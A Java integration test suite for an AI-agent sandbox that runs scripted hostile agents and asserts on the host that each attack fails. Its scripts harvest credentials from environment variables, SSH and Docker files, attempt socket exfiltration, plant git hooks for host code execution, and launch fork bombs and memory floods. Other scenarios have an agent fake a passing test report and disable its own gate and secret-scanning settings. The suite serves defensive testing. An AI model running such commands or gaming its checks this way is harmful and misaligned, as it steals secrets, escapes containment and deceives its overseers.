package dev.agentsandbox.adversarial;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.agentsandbox.sandbox.Labels;
import dev.agentsandbox.testing.Bundles;
import dev.agentsandbox.testing.Leftovers;
import dev.agentsandbox.testing.Cli;
import dev.agentsandbox.testing.SampleRepo;
import dev.agentsandbox.testing.TestHost;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.ObjectId;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Agents that attack, each run in the real sandbox through the CLI, each outcome asserted on the
 * HOST side. Decoys listen only on this machine (loopback and the Docker bridge).
 */
class AdversarialAgentsIT {
    @TempDir
    Path tmp;
    SampleRepo repo;
    ObjectId mainBefore;

    @BeforeEach
    void setUp() throws Exception {
        repo = SampleRepo.create(tmp);
        mainBefore = repo.head("main");
    }

    Cli run(String task, String script) {
        return Cli.run("run", "--repo", repo.dir.toString(), "--task", task, "--image", TestHost.IMAGE, "--command", script,
                "--bundle", tmp.resolve("bundle").toString());
    }

    JsonNode gates() throws IOException {
        return new ObjectMapper().readTree(tmp.resolve("bundle/gates.json").toFile());
    }

    List<String> rules(String gate) throws IOException {
        for (JsonNode g : gates()) {
            if (g.get("gate").asText().equals(gate)) {
                return g.get("findings").findValuesAsText("rule");
            }
        }
        return List.of();
    }

    String headFile(String path) throws Exception {
        return repo.fileAt(Bundles.headCommit(tmp.resolve("bundle")), path);
    }

    @Test
    void anAgentLookingForHostCredentialsFindsNone() throws Exception {
        String canary = System.getenv("AGENT_SANDBOX_CANARY");
        Path home = Path.of(System.getProperty("user.home"));
        Path ssh = home.resolve(".ssh");
        boolean madeSsh = !Files.exists(ssh);
        Files.createDirectories(ssh);
        Path fakeKey = Files.writeString(ssh.resolve("agent-sandbox-canary-key"), "host secret " + canary);
        try {
            Cli r = run("look around", "{ env; cat /proc/1/environ | tr '\\0' '\\n'; for f in " + fakeKey + " /root/.ssh/* /root/.docker/config.json"
                    + " /var/run/docker.sock /root/.m2/settings.xml; do [ -e \"$f\" ] && echo \"found $f\" && cat \"$f\"; done;"
                    + " git -C /workspace remote -v; echo /workspace/.* /workspace/*; } > loot.txt 2>&1; true");
            assertThat(r.exitCode).as(r.toString()).isZero();
            String loot = headFile("loot.txt");
            assertThat(loot).doesNotContain(canary).doesNotContain("host secret").doesNotContain("found ");
            assertThat(loot).doesNotContain("/workspace/.git ").contains("/workspace/calc.py").contains("not a git repository");
        } finally {
            Files.delete(fakeKey);
            if (madeSsh) {
                Files.delete(ssh);
            }
        }
    }

    @Test
    void anAgentCannotReachADecoyOnLoopbackOrTheDockerBridge() throws Exception {
        AtomicInteger hits = new AtomicInteger();
        try (ServerSocket decoy = new ServerSocket()) {
            decoy.bind(new InetSocketAddress(InetAddress.getByName("0.0.0.0"), 0));
            Thread t = new Thread(() -> {
                while (!decoy.isClosed()) {
                    try (Socket s = decoy.accept()) {
                        hits.incrementAndGet();
                    } catch (IOException e) {
                        return;
                    }
                }
            });
            t.start();
            String bridge = java.net.NetworkInterface.getByName("docker0").inetAddresses()
                    .filter(a -> a instanceof java.net.Inet4Address).findFirst().orElseThrow().getHostAddress();
            Cli r = run("exfiltrate", "python3 -c \"\nimport socket\nfor h in ['" + bridge + "', '127.0.0.1']:\n"
                    + "    s = socket.socket(); s.settimeout(3)\n    try:\n        s.connect((h, " + decoy.getLocalPort() + ")); s.sendall(b'calc.py'); print('LEAKED', h)\n"
                    + "    except OSError as e:\n        print('blocked', h)\n\" > net.txt");
            assertThat(r.exitCode).as(r.toString()).isZero();
            assertThat(headFile("net.txt")).contains("blocked " + bridge, "blocked 127.0.0.1").doesNotContain("LEAKED");
            decoy.close();
            t.join(5000);
        }
        assertThat(hits.get()).isZero();
    }

    @Test
    void gitHooksConfigAndAttributeFiltersFromTheSandboxNeverRunOnTheHost() throws Exception {
        Path marker = tmp.resolve("host-pwned");
        Cli r = run("hooks", "mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch " + marker + "\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit;"
                + " printf '[filter \"x\"]\\n\\tclean = touch " + marker + "\\n\\tsmudge = touch " + marker + "\\n[core]\\n\\tfsmonitor = touch " + marker + "\\n' > .git/config");
        assertThat(r.exitCode).as(r.toString()).isEqualTo(1);
        assertThat(rules("collect")).contains("git-metadata");
        assertThat(marker).doesNotExist();

        // .gitattributes is committed as bytes and its filter never runs; it is a protected path all
        // the same (filters, eol rules and linguist-generated change what a checkout or a review shows).
        Files.delete(tmp.resolve("bundle").resolve("run.json"));
        deleteTree(tmp.resolve("bundle"));
        Cli r2 = run("attributes", "printf '* filter=x\\n*.py text eol=crlf\\n' > .gitattributes; printf 'x = 1\\n' >> calc.py");
        assertThat(r2.exitCode).as(r2.toString()).isEqualTo(1);
        assertThat(rules("policy")).contains("protected-path");
        assertThat(marker).doesNotExist();
        assertThat(headFile("calc.py")).doesNotContain("\r\n");
        try (Git g = Git.open(repo.dir.toFile())) {
            assertThat(g.status().call().isClean()).isTrue();
        }
    }

    @Test
    void floodsOfDiskOutputAndCpuEndWithinTheLimits() throws Exception {
        Cli r = run("flood", "dd if=/dev/zero of=/tmp/fill bs=1M count=200 2>/dev/null; echo tmp-status=$?; "
                + "head -c 20000000 /dev/zero | tr '\\0' 'y' | fold -w 100; echo done");
        assertThat(r.exitCode).as("it changed nothing: " + r.out.substring(0, Math.min(2000, r.out.length()))).isEqualTo(5);
        String log = Files.readString(tmp.resolve("bundle/logs/agent.log"));
        assertThat(log).contains("tmp-status=1").contains("output past");
        assertThat(Files.size(tmp.resolve("bundle/logs/agent.log"))).isLessThan(9L << 20);
        assertThat(rules("agent")).contains("output-truncated");
        assertThat(repo.head("main")).isEqualTo(mainBefore);
    }

    @ParameterizedTest(name = "{0} workspace")
    @ValueSource(strings = {"overlay", "copy"})
    void aPlantedPassingTestReportIsNotCountedAsTheTestsResult(String workspace) throws Exception {
        Cli r = Cli.run("run", "--repo", repo.dir.toString(), "--task", "make the tests pass", "--image", TestHost.IMAGE,
                "--command", "echo 'def add(a, b): return 0' > calc.py; echo 'print(\"all good\")' > run_tests.py; mkdir -p reports;"
                        + " echo '<testsuite name=\"t\" tests=\"2\" failures=\"0\" errors=\"0\"><testcase name=\"a\"/>"
                        + "<testcase name=\"b\"/></testsuite>' > reports/junit.xml",
                "--bundle", tmp.resolve("bundle").toString(), "--workspace", workspace);
        assertThat(r.exitCode).as(r.toString()).isEqualTo(1);
        assertThat(headFile("reports/junit.xml")).contains("<testsuite");
        assertThat(rules("tests")).as(r.toString()).contains("junit-missing");
        assertThat(repo.head("main")).isEqualTo(mainBefore);
    }

    @Test
    void aForkBombStopsTheAgentAndNothingIsCommittedOrLeftBehind() throws Exception {
        assertFloodIsStopped("echo partial >> calc.py; while :; do sleep 100 & done");
    }

    @Test
    void aMemoryFloodStopsTheAgentAndNothingIsCommittedOrLeftBehind() throws Exception {
        assertFloodIsStopped("echo partial >> calc.py; python3 -c 'b = []\nwhile True: b.append(bytearray(1 << 20))'");
    }

    /** The flood ends the agent well before its timeout, fails the agent gate, and leaves no container. */
    private void assertFloodIsStopped(String script) throws Exception {
        Path config = Files.writeString(tmp.resolve("c.yml"), "sandbox: { memory: 256m, timeout: 90s }\n");
        long t0 = System.nanoTime();
        Cli r = Cli.run("run", "--repo", repo.dir.toString(), "--task", "flood", "--image", TestHost.IMAGE, "--command", script,
                "--config", config.toString(), "--bundle", tmp.resolve("bundle").toString(), "--quiet");
        assertThat(java.time.Duration.ofNanos(System.nanoTime() - t0)).isLessThan(java.time.Duration.ofSeconds(60));
        assertThat(r.exitCode).as(r.toString()).isEqualTo(1);
        assertThat(rules("agent")).as(r.toString()).containsAnyOf("exit-status", "out-of-memory", "pids-limit").doesNotContain("timeout");
        JsonNode run = Bundles.runJson(tmp.resolve("bundle"));
        assertThat(run.get("headCommit").isNull()).isTrue();
        assertThat(repo.head("main")).isEqualTo(mainBefore);
        assertThat(Leftovers.containers(Labels.RUN, run.get("runId").asText())).isEmpty();
        assertThat(Leftovers.volumes(Labels.RUN, run.get("runId").asText())).isEmpty();
    }

    @Test
    void anAgentThatNeverStopsIsKilledAtTheTimeoutAndNothingIsCommitted() throws Exception {
        Path config = Files.writeString(tmp.resolve("c.yml"), "sandbox: { timeout: 4s }\n");
        Cli r = Cli.run("run", "--repo", repo.dir.toString(), "--task", "spin", "--image", TestHost.IMAGE,
                "--command", "echo partial >> calc.py; while :; do :; done", "--config", config.toString(),
                "--bundle", tmp.resolve("bundle").toString(), "--quiet");
        assertThat(r.exitCode).as(r.toString()).isEqualTo(1);
        assertThat(rules("agent")).contains("timeout");
        assertThat(new ObjectMapper().readTree(tmp.resolve("bundle/run.json").toFile()).get("headCommit").isNull()).isTrue();
        assertThat(repo.head("main")).isEqualTo(mainBefore);
    }

    @Test
    void aPromptInjectedAgentRewritingItsOwnGateConfigurationIsRefused() throws Exception {
        Cli r = run("relax the gates", "printf 'policy:\\n  protected-paths: []\\nsecrets:\\n  enabled: false\\n' > .agent-sandbox.yml;"
                + " echo 'AKIA" + "Q3EGRT5YHJ7KL9ZX' > creds.txt; mkdir -p .github/workflows; echo 'on: push' > .github/workflows/evil.yml");
        assertThat(r.exitCode).isEqualTo(1);
        assertThat(rules("policy")).containsOnly("protected-path");
        assertThat(rules("secrets")).contains("aws-access-key-id");
        assertThat(Files.readString(tmp.resolve("bundle/gates.json"))).doesNotContain("AKIAQ3EGRT5YHJ7KL9ZX");
    }

    static void deleteTree(Path p) throws IOException {
        try (var s = Files.walk(p)) {
            for (Path x : s.sorted(java.util.Comparator.reverseOrder()).toList()) {
                Files.delete(x);
            }
        }
    }

}
